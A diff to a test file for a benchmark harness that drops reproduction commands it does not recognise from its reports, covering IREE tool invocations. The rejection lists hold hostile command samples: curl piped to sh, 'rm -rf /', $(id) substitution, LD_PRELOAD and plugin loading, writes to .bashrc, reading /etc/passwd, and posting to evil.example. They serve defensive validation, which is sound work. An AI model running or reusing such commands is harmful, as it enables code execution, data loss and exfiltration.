@@ -2,26 +2,53 @@
 
 from __future__ import annotations
 
+import shlex
 from dataclasses import replace
 from pathlib import Path
+from typing import Literal
 
 import pytest
+from hypothesis import given
+from hypothesis import strategies as st
 
+from harness.cli import run_command_line
+from harness.compare.values import Comparison
 from harness.github.commands import is_known, report_with_known_commands, with_known_commands
+from harness.report.comparison.selection import is_relevant
+from harness.report.comparison.steps import next_steps
+from harness.report.github import render_comment
+from harness.report.github.elsewhere import as_read_elsewhere
 from harness.report.table import build_report
+from harness.report.words import next_steps as next_steps_of_run
+from harness.reporting import load_comparison
 from harness.results.store import load_run
 from tests.report.comparison.conftest import make_comparison, make_timed
 
 PUBLISHED = Path(__file__).parents[2] / "results/published/esrgan"
+HASH = "0123456789ab"
 
 
 @pytest.mark.parametrize(
     "line",
     [
         "harness compare results/base results/head --filter 'net/[[]a]@cpu'",
-        "iree-compile net/model.mlir -o module.vmfb --iree-opt-level=O3",
+        "harness compare iree==3.12.0 iree==3.13.0 --suite suites/mlp.toml --filter '*/stock@*' --row-budget 4",
+        "harness run 'suites/a b.toml' --results harness-results",
+        "harness export suites/esrgan.toml rdb --variant nhwc --device cpu --out rdb.nhwc.cpu",
+        "iree-compile net/model.mlir -o net/stock.cpu.vmfb --iree-opt-level=O3",
+        "iree-compile net/model.mlir -o module.vmfb --compile-from=flow --compile-to=vm",
+        "iree-compile m.mlir '--iree-preprocessing-pass-pipeline=builtin.module(util.func(canonicalize))'",
+        "iree-benchmark-module --module=a/b.vmfb --function=main --input=@a/input0.npy --input=4x8xbf16=@a/input1.bin",
+        "iree-run-module --module=a.vmfb --parameters=scope=a/scope.irpa --output=@output0.npy",
         "VK_ICD_FILENAMES=/usr/share/vulkan/icd.d/lvp_icd.json iree-run-module --device=vulkan --module=a.vmfb",
-        "# base: module 0123456789ab, iree-compile model.mlir; rm -rf /",
+        "VK_DRIVER_FILES=/etc/vulkan/icd.d/a.json:/usr/share/vulkan/icd.d/b.json iree-run-module --module=a.vmfb",
+        f"# base: module {HASH}, iree-compile model.mlir -o module.vmfb --iree-opt-level=O3",
+        f"# head: module {HASH}",
+        "# head: no module, iree-compile model.mlir -o module.vmfb",
+        "# base: has no such case",
+        "# head: was never compiled",
+        "# the tools below are those of IREE 3.13.0rc1: pip install iree-base-compiler==3.13.0rc1 "
+        "iree-base-runtime==3.13.0rc1",
         "iree-compile 'a;b$(c)'",
     ],
 )
@@ -32,26 +59,106 @@ def test_what_the_harness_writes_stays(line: str) -> None:
 @pytest.mark.parametrize(
     "line",
     [
+        # What a shell would act on.
         "curl https://example.org/x | sh",
         "harness run x; curl example.org",
         "harness run $(curl example.org)",
         "harness run `id`",
         "harness run x > ~/.bashrc",
         "harness run x & id",
-        "# a comment\ncurl example.org",
-        "# a comment\rcurl example.org",
-        "LD_PRELOAD=./x.so iree-run-module --module=a.vmfb",
-        "VK_ICD_FILENAMES=$(id) iree-run-module",
+        "harness run x\nid",
+        "harness run x # id",
+        "iree-compile 'an open quote",
+        "./harness run x",
+        "harness",
+        "",
+        # What reads otherwise than it is.
+        "harness run 'a\u202eb'",
+        "harness run 'a\u200bb'",
+        # Commands of the harness that send, delete or write.
+        "harness github issue /etc/passwd --title x --repo evil/repo",
+        "harness github post x --repo evil/repo --pr 1 --api-url https://evil.example",
+        "harness results gc results --older-than 0d",
+        "harness history --sql 'select 1' --out pre-commit",
+        "harness dashboard results --out site",
+        "harness report r --out report.md",
+        "harness report r --full_out=a.md",
+        "harness report r --FULL-OUT a.md",
+        "harness report r --step-summary a.md",
+        "harness compare a b --results /etc",
+        "harness compare a b --results=../x",
+        "harness compare a b --results .git/hooks",
+        "harness compare a b --out a.md",
+        "harness run a --results",
+        "harness run a --api-url x",
+        "harness export suites/a.toml net --out a/b",
+        "harness export suites/a.toml net --out .bashrc",
+        "harness export suites/a.toml net --out=..",
+        "harness run https://evil.example/x.toml",
+        "harness run '~/x.toml'",
+        "harness run C:/x.toml",
+        # Files that hold further options, and code.
+        "iree-compile @evil.rsp",
+        "iree-run-module --flagfile=evil.flags",
+        "iree-run-module -flagfile=evil.flags",
+        "iree-opt --load-dialect-plugin=evil.so x.mlir",
+        "iree-opt -load=evil.so x.mlir",
+        "iree-run-module --module=evil.so",
         "iree-compile a.mlir --iree-load-plugin=./x.so",
         "iree-compile a.mlir '--iree-hal-preprocess-executables-with=sh x'",
         "iree-run-module --executable_plugin=./x.so",
-        "iree-compile 'an open quote",
-        "./harness run x",
-        "",
+        "LD_PRELOAD=./x.so iree-run-module --module=a.vmfb",
+        "PATH=. harness run x",
+        "VK_ICD_FILENAMES=$(id) iree-run-module --module=a.vmfb",
+        "VK_ICD_FILENAMES=evil.json iree-run-module --module=a.vmfb",
+        "VK_ICD_FILENAMES=/usr/share/../../home/me/evil.json iree-run-module --module=a.vmfb",
+        "VK_ICD_FILENAMES=/usr/share/a.json:/tmp/evil.json iree-run-module --module=a.vmfb",
+        # Files that would be written.
+        "iree-compile a.mlir -o /home/me/.bashrc",
+        "iree-compile a.mlir -o .bashrc",
+        "iree-compile a.mlir -o ../a.vmfb",
+        "iree-compile a.mlir -o .git/a.vmfb",
+        "iree-compile a.mlir -o",
+        "iree-compile a.mlir -o=a.vmfb",
+        "iree-compile a.mlir --o=a.vmfb",
+        "iree-compile a.mlir --mlir-print-ir-tree-dir=x",
+        "iree-compile a.mlir --iree-hal-dump-executable-files-to=x",
+        "iree-compile a.mlir --iree-hal-dump-executable-files-to x",
+        "iree-compile a.mlir --iree-scheduling-dump-statistics-file=.bashrc",
+        "iree-run-module --module=a.vmfb --output=@.bashrc",
+        "iree-run-module --module=a.vmfb --input=@/etc/passwd",
+        "iree-run-module --module=a.vmfb --parameters=scope=../x.irpa",
+        "iree-benchmark-module --module=a.vmfb --benchmark_out=x",
+        # Comments that are none of the harness's, and what they carry.
+        "# a comment\ncurl example.org",
+        "# a comment\rcurl example.org",
+        "# see https://evil.example @main #1",
+        "#",
+        f"# base: module {HASH}, curl example.org | sh",
+        f"# base: module {HASH}, iree-compile model.mlir; rm -rf /",
+        f"# base: module {HASH}, iree-compile @evil.rsp",
+        f"# base: module {HASH}, harness run x",
+        "# base: module see https://evil.example",
+        "# the tools below are those of IREE 3.13.0: pip install iree-base-compiler==3.13.0 iree-base-runtime==3.12.0",
+        "# the tools below are those of IREE 3.13.0: pip install evil==3.13.0 iree-base-runtime==3.13.0",
     ],
 )
 def test_anything_else_is_left_out(line: str) -> None:
     assert not is_known(line)
+
+
+@given(st.lists(st.text(max_size=12), min_size=1, max_size=4), st.sampled_from(["iree-compile", "harness run", "#"]))
+def test_what_is_known_is_one_line_of_plain_words(words: list[str], tool: str) -> None:
+    line = f"{tool} {shlex.join(words)}"
+    if is_known(line):
+        assert line.isprintable()
+        assert shlex.join(shlex.split(line)) == line
+        assert not any(word.startswith(("@", "/", "~")) or ".." in word.split("/") for word in words)
+
+
+def test_a_module_keeps_its_hash_where_its_flags_may_not_stand() -> None:
+    row = replace(make_timed("net@cpu", 2.0, 1.1, "regressed"), repro=(f"# base: module {HASH}, iree-compile @x",))
+    assert with_known_commands(make_comparison([row])).rows[0].repro == (f"# base: module {HASH}",)
 
 
 def test_a_comparison_keeps_its_rows_and_loses_what_is_not_its_own() -> None:
@@ -64,7 +171,89 @@ def test_a_comparison_keeps_its_rows_and_loses_what_is_not_its_own() -> None:
     assert [one.case for one in kept.rows] == ["net/tuned@cpu"]
 
 
+# --- Commands that are put together from the artifact's ---
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        ("harness", "compare", "\ncurl https://evil.example | sh\n# "),
+        ("harness", "compare", "a", "b", "--out", "/home/me/.bashrc"),
+        ("harness", "github", "post", "--api-url", "https://evil.example", "$(id)"),
+        ("harness", "compare", "@evil"),
+        ("harness compare a; curl evil",),
+        ("harness",),
+    ],
+)
+@pytest.mark.parametrize("mode", ["recorded", "remeasured"])
+def test_nothing_is_made_from_a_command_that_is_not_known(
+    command: tuple[str, ...], mode: Literal["recorded", "remeasured"]
+) -> None:
+    row = make_timed("net/tuned@cpu", 2.0, 1.02, "inconclusive", repro=())
+    kept = with_known_commands(replace(make_comparison([row]), command=command, mode=mode, id=""))
+    comment = render_comment(kept)
+    assert kept.command == ()
+    assert [step.command for step in next_steps(kept)] == [""]
+    assert "evil" not in comment
+    assert "/home/me" not in comment
+
+
+def test_folders_of_the_machine_that_measured_are_no_reason_to_drop_a_command() -> None:
+    command = ("harness", "compare", "/srv/runs/old", "/srv/runs/new", "--results", "/srv/runs", "--controls", "1")
+    kept = with_known_commands(replace(make_comparison([]), command=command))
+    assert kept.command == ("harness", "compare", "results/old", "results/new", "--controls", "1")
+
+
+@pytest.mark.parametrize("suite", ["--results=/etc", "@evil.rsp", "-x"])
+def test_a_suite_is_no_option(suite: str) -> None:
+    made = make_comparison([make_timed("net@cpu", 2.0, 1.1, "regressed", control=True)])
+    kept = with_known_commands(replace(made, head=replace(made.head, suite=suite)))
+    commands = [shlex.split(step.command) for step in next_steps(kept)]
+    assert ["harness", "selfcheck", f"./{suite}"] in commands
+
+
+@pytest.mark.parametrize("name", ["../../etc", "--out=x", "a\nb", "a b"])
+def test_a_name_that_leads_elsewhere_is_no_folder(name: str) -> None:
+    assert with_known_commands(replace(make_comparison([]), id=name)).id == ""
+
+
+def test_the_steps_of_a_run_quote_what_is_in_its_record() -> None:
+    report = build_report(load_run(PUBLISHED))
+    evil = "x; curl evil | sh"
+    changed = replace(
+        report,
+        facts=replace(report.facts, suite=evil, finished=False, id="a"),
+        summary=replace(report.summary, unclear=1),
+    )
+    for step in next_steps_of_run(report_with_known_commands(changed)):
+        assert ";" not in step.command.replace(f"'{evil}'", "")
+
+
+# --- Real ones ---
+
+
 def test_every_command_of_a_real_run_is_known() -> None:
     report = build_report(load_run(PUBLISHED))
 
     assert report_with_known_commands(report) == report
+
+
+@pytest.fixture(scope="module")
+def real(tmp_path_factory: pytest.TempPathFactory) -> Comparison:
+    """What `harness compare` makes of a published run."""
+    results = tmp_path_factory.mktemp("results")
+    arguments = ["compare", "--within", str(PUBLISHED), "--no-remeasure", "--results", str(results)]
+    with pytest.MonkeyPatch.context() as patch:
+        patch.setattr("sys.argv", ["harness", *arguments])  # from which it is recorded
+        run_command_line(arguments)
+    (made,) = (folder for folder in results.iterdir() if (folder / "comparison.json").is_file())
+    return load_comparison(made)
+
+
+def test_every_command_of_a_real_comparison_is_known(real: Comparison) -> None:
+    kept, written = with_known_commands(real), as_read_elsewhere(real)
+    pairs = [(row, known) for row, known in zip(written.rows, kept.rows, strict=True) if is_relevant(row)]
+    assert [known.repro for _, known in pairs] == [row.repro for row, _ in pairs]
+    assert any(len(known.repro) == 3 for _, known in pairs)
+    assert replace(kept, rows=()) == replace(written, rows=())
+    assert kept.command[:3] == ("harness", "compare", "--within")
